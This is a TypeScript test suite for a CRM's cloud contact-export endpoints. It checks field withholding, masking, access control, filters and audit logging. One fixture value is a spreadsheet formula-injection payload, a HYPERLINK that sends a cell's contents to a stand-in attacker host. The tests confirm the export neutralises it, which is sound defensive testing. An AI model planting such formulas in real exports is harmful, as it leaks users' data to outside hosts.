import ExcelJS from 'exceljs'
import Papa from 'papaparse'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import type { AllowedFieldSet } from '@enclave/shared'
import type { ApiClient } from '@enclave/shared/testing/api-client'
import { siteDatabaseName } from '../../storage/types'
import { startTestCloud, type TestCloud } from '../../testing/test-cloud'
import { createSiteKey, enrolTestSite } from '../../testing/test-site'

const SITE = 'oslo'
const OTHER_SITE = 'bergen'
const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'

const ALLOWED: AllowedFieldSet = {
  version: 1,
  entities: {
    contact: {
      fields: { firstName: 'mask', email: 'mask', jobTitle: 'sync', companyId: 'sync', country: 'sync', externalId: 'pseudonym', ownerId: 'sync', loyaltyTier: 'sync' },
      cloudWritable: [],
      cloudCreatable: false, cloudDeletable: false,
    },
    company: { fields: { name: 'sync', country: 'sync' }, cloudWritable: [], cloudCreatable: false, cloudDeletable: false },
  },
}

const TIME = '2026-01-01T00:00:00.000Z'

/**
 * Contacts as the site's projector stores them, except that the first also carries
 * `nationalId` and `notes`, which the policy withholds. A buggy edge or an older policy could
 * leave such fields in the database, and the export must still leave them out.
 */
const DOCUMENTS = [
  { _id: 'company:01A', type: 'company', name: 'Fjord Fisk AS', country: 'Norway', createdAt: TIME, updatedAt: TIME },
  {
    _id: 'contact:01A',
    type: 'contact',
    firstName: 'I***',
    email: 'i***@example.no',
    jobTitle: HOSTILE,
    companyId: 'company:01A',
    country: 'Norway',
    externalId: 'psn_0123456789abcdefghjkmnpqrs',
    ownerId: 'user:remote-agent',
    loyaltyTier: 'gold',
    nationalId: '01018512345',
    notes: 'Private note about Ingrid',
    residency: { firstName: 'mask', email: 'mask', externalId: 'pseudonym' },
    createdAt: TIME,
    updatedAt: TIME,
  },
  { _id: 'contact:01B', type: 'contact', firstName: 'O***', email: 'o***@example.no', jobTitle: 'Buyer', country: 'Norway', ownerId: 'user:someone-else', createdAt: TIME, updatedAt: TIME },
  { _id: 'contact:01C', type: 'contact', firstName: 'M***', email: 'm***@example.se', jobTitle: 'Chef', country: 'Sweden', ownerId: 'user:remote-agent', createdAt: TIME, updatedAt: TIME },
]

function parseCsv(text: string): string[][] {
  return Papa.parse<string[]>(text.replace(/^\ufeff/, '').trim()).data
}

/** Returns the CSV rows as objects keyed by header. */
function csvRecords(text: string): Record<string, string>[] {
  const [header = [], ...rows] = parseCsv(text)
  return rows.map((row) => Object.fromEntries(header.map((name, index) => [name, row[index] ?? ''])))
}

describe('cloud export routes', () => {
  let cloud: TestCloud
  let manager: ApiClient
  let ownScopeManager: ApiClient

  beforeAll(async () => {
    cloud = await startTestCloud()
    const key = await createSiteKey()
    await enrolTestSite(cloud, { siteId: SITE, publicJwk: key.publicJwk, kid: key.kid, allowed: ALLOWED })
    await enrolTestSite(cloud, { siteId: OTHER_SITE, publicJwk: key.publicJwk, kid: key.kid, allowed: ALLOWED })
    const db = await cloud.context.storage.database(siteDatabaseName(SITE))
    await db.bulkDocs(DOCUMENTS)

    manager = await cloud.signIn('manager', { sites: [SITE] })
    const created = await cloud.api.post('/api/users', { username: 'remote-agent', password: 'tests only passphrase 42', role: 'manager', sites: [SITE], recordScope: 'own' })
    expect(created.status).toBe(201)
    ownScopeManager = await cloud.signIn('manager', { username: 'remote-agent' })
  })

  afterAll(async () => {
    await cloud.destroy()
  })

  it('exports every contact as CSV', async () => {
    const response = await manager.get(`/api/sites/${SITE}/exports/contacts?format=csv`)

    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="contacts-\d{4}-\d{2}-\d{2}\.csv"$/)
    const records = csvRecords(String(response.body))
    expect(records.map((record) => record.Country)).toEqual(['Norway', 'Norway', 'Sweden'])
  })

  it('leaves out fields the policy withholds', async () => {
    const response = await manager.get(`/api/sites/${SITE}/exports/contacts`)
    const text = String(response.body)
    const [header] = parseCsv(text)

    expect(header).toEqual(['First name', 'Email', 'Job title', 'Company', 'Country', 'External ID', 'Owner', 'loyaltyTier'])
    expect(text).not.toContain('01018512345')
    expect(text).not.toContain('Private note')
    expect(text).not.toContain('National ID')
    expect(text).not.toContain('Notes')
  })

  it('writes masked and pseudonymised values as stored', async () => {
    const response = await manager.get(`/api/sites/${SITE}/exports/contacts`)
    const [ingrid] = csvRecords(String(response.body))

    expect(ingrid!['First name']).toBe('I***')
    expect(ingrid!.Email).toBe('i***@example.no')
    expect(ingrid!['External ID']).toBe('psn_0123456789abcdefghjkmnpqrs')
    expect(ingrid!.Company).toBe('Fjord Fisk AS')
    expect(ingrid!.loyaltyTier).toBe('gold')
  })

  it('escapes a formula in CSV', async () => {
    const response = await manager.get(`/api/sites/${SITE}/exports/contacts`)
    const [ingrid] = csvRecords(String(response.body))

    expect(ingrid!['Job title']).toBe(`'${HOSTILE}`)
  })

  it('applies filters, search and sort of the list', async () => {
    const filtered = await manager.get(`/api/sites/${SITE}/exports/contacts?filter.country=norway&sort=-jobTitle`)
    const searched = await manager.get(`/api/sites/${SITE}/exports/contacts?q=chef`)

    expect(csvRecords(String(filtered.body)).map((record) => record['Job title'])).toEqual(['Buyer', `'${HOSTILE}`])
    expect(csvRecords(String(searched.body)).map((record) => record['Job title'])).toEqual(['Chef'])
  })

  it('ignores limit and offset', async () => {
    const response = await manager.get(`/api/sites/${SITE}/exports/contacts?limit=1&offset=1`)
    expect(csvRecords(String(response.body))).toHaveLength(3)
  })

  it('writes XLSX that exceljs opens', async () => {
    const response = await fetch(`${cloud.url}/api/sites/${SITE}/exports/contacts?format=xlsx`, { headers: { cookie: manager.cookieHeader() } })
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load((await response.arrayBuffer()) as never)
    const sheet = workbook.getWorksheet('contacts')!

    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
    expect(sheet.rowCount).toBe(4)
    expect(sheet.getRow(1).getCell(1).value).toBe('First name')
    expect(sheet.getRow(2).getCell(1).value).toBe('I***')
    expect(sheet.getRow(2).getCell(3).value).toBe(HOSTILE)
    expect(sheet.getRow(2).getCell(3).type).toBe(ExcelJS.ValueType.String)
    expect(sheet.getRow(4).getCell(5).value).toBe('Sweden')
  })

  it('exports only own records for own scope', async () => {
    const response = await ownScopeManager.get(`/api/sites/${SITE}/exports/contacts`)

    expect(response.status).toBe(200)
    expect(csvRecords(String(response.body)).map((record) => record.Owner)).toEqual(['user:remote-agent', 'user:remote-agent'])
  })

  it('keeps own scope against an owner filter', async () => {
    const response = await ownScopeManager.get(`/api/sites/${SITE}/exports/contacts?filter.ownerId=user:someone-else`)
    expect(csvRecords(String(response.body))).toEqual([])
  })

  it('returns 404 for a site not granted', async () => {
    const response = await manager.get(`/api/sites/${OTHER_SITE}/exports/contacts`)

    expect(response.status).toBe(404)
    expect(response.body.error.code).toBe('site_not_found')
  })

  it('lets an admin export any site', async () => {
    const response = await cloud.api.get(`/api/sites/${OTHER_SITE}/exports/contacts`)

    expect(response.status).toBe(200)
    expect(parseCsv(String(response.body))).toHaveLength(1)
  })

  it('rejects agents and viewers', async () => {
    for (const role of ['agent', 'viewer'] as const) {
      const client = await cloud.signIn(role, { sites: [SITE] })
      const response = await client.get(`/api/sites/${SITE}/exports/contacts`)
      expect(response.status, role).toBe(403)
    }
  })

  it('rejects a field the cloud does not store', async () => {
    const response = await manager.get(`/api/sites/${SITE}/exports/contacts?fields=country,nationalId`)

    expect(response.status).toBe(400)
    expect(response.body.error.code).toBe('unknown_field')
    expect(response.body.error.params).toEqual({ reason: 'cloud_export', fields: ['nationalId'], siteId: SITE })
  })

  it('exports only the requested fields', async () => {
    const response = await manager.get(`/api/sites/${SITE}/exports/contacts?fields=country,firstName`)
    expect(parseCsv(String(response.body))[0]).toEqual(['First name', 'Country'])
  })

  it('rejects an unknown format', async () => {
    const response = await manager.get(`/api/sites/${SITE}/exports/contacts?format=pdf`)

    expect(response.status).toBe(400)
    expect(response.body.error.code).toBe('invalid_format')
  })

  it('rejects a type the site does not sync', async () => {
    const response = await manager.get(`/api/sites/${SITE}/exports/deals`)

    expect(response.status).toBe(404)
    expect(response.body.error.code).toBe('type_not_synced')
  })

  it('rejects a plural that is no type', async () => {
    const response = await manager.get(`/api/sites/${SITE}/exports/invoices`)

    expect(response.status).toBe(404)
    expect(response.body.error.params.reason).toBe('export_type')
  })

  it('logs an audit line per export', async () => {
    const info = vi.spyOn(cloud.context.logger, 'info')
    try {
      await manager.get(`/api/sites/${SITE}/exports/contacts?format=xlsx&filter.country=Norway&q=buyer`)
      const entries = info.mock.calls.filter((call) => call[1] === 'cloud records exported').map((call) => call[0] as Record<string, unknown>)

      expect(entries).toHaveLength(1)
      expect(entries[0]).toMatchObject({
        action: 'record.export',
        user: 'user:test-manager',
        siteId: SITE,
        type: 'contact',
        format: 'xlsx',
        count: 1,
        search: true,
        filters: 1,
        address: '127.0.0.1',
      })
      expect(entries[0]!.fields).toEqual(['firstName', 'email', 'jobTitle', 'companyId', 'country', 'externalId', 'ownerId', 'loyaltyTier'])
      expect(JSON.stringify(entries[0])).not.toContain('i***@example.no')
    } finally {
      info.mockRestore()
    }
  })
})
